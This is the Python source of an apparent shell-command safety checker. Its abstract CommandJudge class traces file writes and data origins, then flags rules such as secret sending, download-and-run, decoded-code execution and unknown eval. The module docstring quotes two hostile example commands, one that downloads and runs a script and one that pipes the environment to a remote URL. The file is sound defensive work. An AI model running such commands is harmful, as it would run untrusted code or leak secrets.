"""Judges one program that would run: its files, its rules, its code, and what it starts in turn.

The walk through statements is a subclass's part. What is learnt (files that were written, where
data comes from) stays here, so that `curl -o f URL; sh f` and `env | curl -d @- URL` are seen for
what they are. The work is bounded: so many commands, so many characters, so many levels.
"""

import fnmatch
from abc import ABC, abstractmethod

from demur.guards.code_execution.call import ProgramCall, CommandHit
from demur.guards.code_execution.config import CommandConfig
from demur.guards.code_execution.consequences import rules_for_effect
from demur.guards.code_execution.effects import FileEffect, EffectKind, find_effects
from demur.guards.code_execution.files import read_rule
from demur.guards.code_execution.host import MAX_DEPTH, CodeLocation, LocatedHit
from demur.guards.code_execution.interpreters import InterpretedCode, CodeLanguage, find_code
from demur.guards.code_execution.outputs import predict_output
from demur.guards.code_execution.places import (
    WorkspaceBounds,
    PathKind,
    canonical_path,
    classify_path,
)
from demur.guards.code_execution.programs import program_name
from demur.guards.code_execution.saving import written_files
from demur.guards.code_execution.scope import ShellState
from demur.guards.code_execution.tongues import read_code
from demur.guards.code_execution.tree import ShellScript
from demur.guards.code_execution.unwrap import InnerCommand, unwrap_command
from demur.guards.code_execution.value import (
    EMPTY,
    UNKNOWN,
    CommandArg,
    Taint,
    TextValue,
    join_values,
)
from demur.guards.code_execution.verbs.around import CommandContext
from demur.guards.code_execution.verbs.index import check_command

__all__ = ["CommandJudge"]

_MAX_STEPS = 2_000
_MAX_CHARACTERS = 400_000
_FLOWS = frozenset({"SECRET_SENT", "DATA_SENT", "WORK_SENT"})
_OWN_KINDS = frozenset({PathKind.INSIDE, PathKind.WORKSPACE_ITSELF, PathKind.STREAM})


class CommandJudge(ABC):
    """Collects hits while it judges one program after the other."""

    def __init__(self, config: CommandConfig, bounds: WorkspaceBounds, cwd: str) -> None:
        self.config = config
        self.bounds = bounds
        self.state = ShellState(cwd)
        self.hits: list[LocatedHit] = []
        self.steps = 0
        self.characters = 0
        self.exhausted = False

    @property
    def cwd(self) -> str:
        """The folder in which the next command would run."""
        return self.state.cwd

    @abstractmethod
    def walk_shell(
        self, arg: CommandArg, location: CodeLocation, stdin: TextValue = EMPTY
    ) -> TextValue:
        """Walk through a text as a shell would; the subclass knows statements."""

    @abstractmethod
    def walk_function(
        self, body: ShellScript, call: ProgramCall, location: CodeLocation
    ) -> TextValue:
        """Walk through the body of a function; the subclass knows statements."""

    def report(
        self, hit: CommandHit, start: int, end: int, verb: str, location: CodeLocation
    ) -> None:
        """Report a hit at a span of the text of `location`."""
        if hit.rule not in self.config.off:
            first, last = location.source.to_original(start, end)
            self.hits.append(LocatedHit(hit, first, last, verb, location.via, location.elsewhere))

    def report_effect(
        self, effect: FileEffect, start: int, end: int, verb: str, location: CodeLocation
    ) -> None:
        """Report the rules that an effect on a file matches."""
        for sight in rules_for_effect(effect, self.state.cwd, self.bounds):
            if not (location.captured and sight.rule in {"SECRET_READ", "SECRET_NEAR"}):
                self.report(sight, start, end, verb, location)

    def record_write(self, path: str, value: TextValue) -> None:
        """Record the new content of a file."""
        self.state.write_file(path, value)

    def budget_exceeded(
        self, call: ProgramCall, start: int, end: int, location: CodeLocation
    ) -> bool:
        """Whether the budget of steps or characters is used up; reported once."""
        self.steps += 1
        self.characters += sum(len(arg.text) for arg in call.args)
        if self.steps <= _MAX_STEPS and self.characters <= _MAX_CHARACTERS:
            return False
        if not self.exhausted:
            self.report(CommandHit("NESTED_TOO_DEEP"), start, end, call.verb, location)
        self.exhausted = True
        return True

    def judge_program(
        self, call: ProgramCall, start: int, end: int, location: CodeLocation
    ) -> TextValue:
        """Judge a program that is started directly, and return its output."""
        if self.budget_exceeded(call, start, end, location):
            return UNKNOWN
        if self._is_allowed_by_name(call, start, end, location):
            return predict_output(call, self.state)
        taints = self._report_effects(call, start, end, location)
        if not _asks_for_help(call):
            for sight in check_command(
                call, CommandContext(self.config, self.bounds, self.state.files)
            ):
                flows = sight.rule in _FLOWS and call.stdin != EMPTY
                at = _pipeline_span(start, end, location) if flows else (start, end)
                self.report(sight, *at, call.verb, location)
            self._judge_code(call, start, end, location)
            for inner in unwrap_command(call):
                self._judge_inner(inner, call, end, location)
        result = predict_output(call, self.state)
        if taints:
            result = result._replace(taints=result.taints | taints)
        for path, value, append in written_files(call, result, self.state):
            self.state.write_file(path, value, append=append)
        return result

    def _is_allowed_by_name(
        self, call: ProgramCall, start: int, end: int, location: CodeLocation
    ) -> bool:
        """Whether the settings allow this command by name; report it if they deny it."""
        if not self.config.allow and not self.config.deny:
            return False
        line = " ".join([call.name.text, *call.texts])
        if any(fnmatch.fnmatchcase(line, pattern) for pattern in self.config.deny):
            self.report(CommandHit("COMMAND_DENIED", call.verb), start, end, call.verb, location)
            return False
        return any(fnmatch.fnmatchcase(line, pattern) for pattern in self.config.allow)

    def _report_effects(
        self, call: ProgramCall, start: int, end: int, location: CodeLocation
    ) -> frozenset[Taint]:
        """Report the call's effects on files; return the origins that its output gets from them."""
        taints: frozenset[Taint] = frozenset()
        helps = _asks_for_help(call)
        for effect in find_effects(call):
            if helps and effect.kind is not EffectKind.WRITE:
                continue
            self.report_effect(effect, start, end, call.verb, location)
            if effect.kind is EffectKind.READ:
                taints |= self.file_origins(effect.target)
        return taints

    def file_origins(self, target: CommandArg) -> frozenset[Taint]:
        """Return the origins of a file's content, by its name."""
        path = canonical_path(target.text, self.state.cwd)
        if read_rule(path):
            return frozenset({Taint.SECRET})
        known = self.state.files.get(path)
        if known is not None:
            return known.taints
        own = classify_path(target.text, self.state.cwd, self.bounds) in _OWN_KINDS
        return frozenset() if own else frozenset({Taint.FILE})

    def _judge_code(self, call: ProgramCall, start: int, end: int, location: CodeLocation) -> None:
        """Judge the code that an interpreter gets, or a program that an earlier command wrote."""
        found = list(find_code(call))
        if not found and self.state.files:
            path = self.state.resolve_path(call.name.text)
            if path in self.state.files:
                found = [InterpretedCode(CodeLanguage.SHELL, file=call.name._replace(text=path))]
        for code in found:
            from_input = code.text is None and code.file is None
            at = _pipeline_span(start, end, location) if from_input else (start, end)
            arg = code.text or self._stored_code(code, call, *at)
            if arg is None:
                continue
            self._report_origins(arg, call, at, location)
            if arg.text and (arg.known or code.text is not None):
                read_code(
                    code.language, arg, self, location._replace(via=(*location.via, call.verb))
                )

    def _report_origins(
        self, arg: CommandArg, call: ProgramCall, span: tuple[int, int], location: CodeLocation
    ) -> None:
        """Report code that was downloaded or decoded."""
        if Taint.DOWNLOAD in arg.taints:
            self.report(CommandHit("DOWNLOAD_RUN", call.verb), *span, call.verb, location)
        if Taint.DECODED in arg.taints:
            self.report(CommandHit("DECODED_RUN", call.verb), *span, call.verb, location)

    def _stored_code(
        self, code: InterpretedCode, call: ProgramCall, start: int, end: int
    ) -> CommandArg | None:
        """Return the code in a file or in the input, as far as it is known."""
        if code.file is None or code.file.text in {"/dev/stdin", "/dev/fd/0"}:
            value = call.stdin
        elif code.file.taints:
            value = TextValue("", known=False, taints=code.file.taints)
        else:
            value = self.state.files.get(self.state.resolve_path(code.file.text), EMPTY)
        if value == EMPTY:
            return None
        return CommandArg(value.text, start, end, value.known, value.taints)

    def _judge_inner(
        self, inner: InnerCommand, call: ProgramCall, end: int, location: CodeLocation
    ) -> None:
        """Judge a command inside another one."""
        args = inner.args
        if not args:
            return
        if location.depth >= MAX_DEPTH:
            self.report(CommandHit("NESTED_TOO_DEEP"), args[0].start, end, call.verb, location)
            return
        via = (*location.via, inner.via)
        elsewhere = location.elsewhere or inner.elsewhere
        deeper = location._replace(depth=location.depth + 1, via=via, elsewhere=elsewhere)
        if inner.script:
            whole = join_values([arg.value for arg in args], " ")
            arg = (
                args[0]
                if len(args) == 1
                else CommandArg(whole.text, args[0].start, end, *whole[1:])
            )
            self._judge_evaluated(arg, call, end, deeper)
            return
        started = call._replace(
            verb=program_name(args[0].text),
            name=args[0],
            args=args[1:],
            via=via,
            writes=(),
            reads=(),
        )
        body = self.state.functions.get(args[0].text)
        if body is not None:
            self.walk_function(body, started, deeper)
        else:
            self.judge_program(started, args[0].start, end, deeper)

    def _judge_evaluated(
        self, arg: CommandArg, call: ProgramCall, end: int, location: CodeLocation
    ) -> None:
        """Judge a text that a program passes to a shell."""
        at = (call.name.start, end)
        self._report_origins(arg, call, at, location)
        if not arg.known and call.verb == "eval":
            self.report(CommandHit("EVAL_UNKNOWN", call.verb), *at, call.verb, location)
        if arg.text:
            self.walk_shell(arg, location, call.stdin)


def _asks_for_help(call: ProgramCall) -> bool:
    """Whether a call only explains itself: `--help` before any operand."""
    for arg in call.args:
        if arg.text in {"--help", "--version"}:
            return True
        if not arg.text.startswith("-"):
            return False
    return False


def _pipeline_span(start: int, end: int, location: CodeLocation) -> tuple[int, int]:
    """Return the span of the pipeline up to here."""
    return (location.pipe_start if location.pipe_start >= 0 else start), end
